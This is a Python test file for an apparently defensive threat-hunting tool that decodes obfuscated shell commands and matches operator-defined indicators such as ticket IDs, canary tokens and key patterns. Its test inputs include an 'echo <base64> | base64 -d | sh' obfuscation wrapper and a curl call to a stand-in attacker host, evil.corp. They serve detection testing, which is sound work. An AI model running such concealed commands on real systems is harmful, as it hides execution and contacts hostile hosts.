# SPDX-License-Identifier: GPL-3.0-or-later
"""Indicators of an operator's own: from a file to what is said of them."""

import base64
import json
import os

import huntdir
from suite import AUHUNT, HUNT, ROOT, run

ROWS = r"""# of our own
ioc ticket \bINC-(\d{6})\b
ioc canary severity=high \bcanary-[a-z0-9]{4}\b
ioc key weight=2.5 \bAKIA[A-Z2-7]{8}\b
ioc dns severity=low \b[a-z]+\.corp\b
"""
LOG = os.path.join(ROOT, "tests", "golden", "b64_plain.log")


def hidden(text):
    word = base64.b64encode(text.encode()).decode()
    return ["sh", "-c", "echo %s | base64 -d | sh" % word]


def found(result):
    return [(ioc["type"], ioc["value"]) for ioc in result["iocs"]]


def check_decode():
    argvs = [
        ["cat", "INC-123456.txt", "canary-ab12"],
        hidden("curl http://evil.corp/INC-654321 # canary-zzzz"),
        hidden("echo AKIAABCDEFGH"),
        ["echo", "nothing"],
    ]
    wants = [
        ([("ticket", "123456"), ("canary", "canary-ab12")], 3),
        ([("ticket", "654321"), ("canary", "canary-zzzz"),
          ("dns", "evil.corp"), ("url", "http://evil.corp/INC-654321")],
         4),
        ([("key", "AKIAABCDEFGH")], 2.5),
        ([], 0),
    ]
    with huntdir.folder({"iocs-local.conf": ROWS}) as where:
        results = huntdir.decode(argvs, where)
    for argv, result, (iocs, points) in zip(argvs, results, wants):
        if sorted(found(result)) != sorted(iocs):
            yield "%s: %s" % (argv, found(result))
        got = result["score"]["parts"].get("intel", 0)
        if got != points:
            yield "%s: intel is %s" % (argv, got)


def check_notebook():
    """There, a weight is nobody's word; a severity is."""
    with huntdir.folder({"iocs-local.conf": ROWS}) as where:
        out = run([AUHUNT, "decode", "-o", "hunt_dir=" + where, "-o",
                   "score.profile=notebook"],
                  data=json.dumps(hidden("echo AKIAABCDEFGH canary-1234"))
                  .encode())
    parts = json.loads(out)["score"]["parts"]
    if parts.get("intel") != 4:
        yield "intel is %s" % parts.get("intel")


def check_line():
    """In the line that leaves, with the reason."""
    with huntdir.folder({"iocs-local.conf": "ioc stage severity=medium "
                         r"echo (stage\d)" "\n"}) as where:
        out = run([HUNT, "--stdout", "-o", "hunt_dir=" + where], path=LOG)
    lines = [json.loads(line) for line in out.splitlines()]
    hits = [line for line in lines if "stage1" in line.get("iocs", ())]
    if not hits:
        yield "no line has it"
    for line in hits:
        if "stage1 is medium to hunt.d" not in line["why"]:
            yield "why is %r" % line["why"]
        if line["parts"].get("intel") != 1.5:
            yield "parts are %r" % line["parts"]


def check_vetted():
    bad = ROWS + "ioc UPPER x\nioc t a(b\niocs t x\nioc t severity=x x\n"
    wants = ("iocs-bad.conf:6: a type has to follow",
             "iocs-bad.conf:7: character 4 of the pattern: ",
             "iocs-bad.conf:8: no 'iocs'; there are: ioc",
             "iocs-bad.conf:9: no severity 'x'; there are: unknown, ")
    with huntdir.folder({"iocs-bad.conf": bad}) as where:
        code, said = huntdir.check_config(where)
    lines = said.splitlines()
    if code != 2 or len(lines) != len(wants):
        yield "exit status %d: %s" % (code, said)
    for line, want in zip(lines, wants):
        if want not in line:
            yield "%r should have %r" % (line, want)
    with huntdir.folder({"iocs-local.conf": ROWS}) as where:
        code, said = huntdir.check_config(where)
    if code or said:
        yield "good rows: exit status %d: %s" % (code, said)


def cases():
    return (("decode", check_decode), ("notebook", check_notebook),
            ("line", check_line), ("vetted", check_vetted))
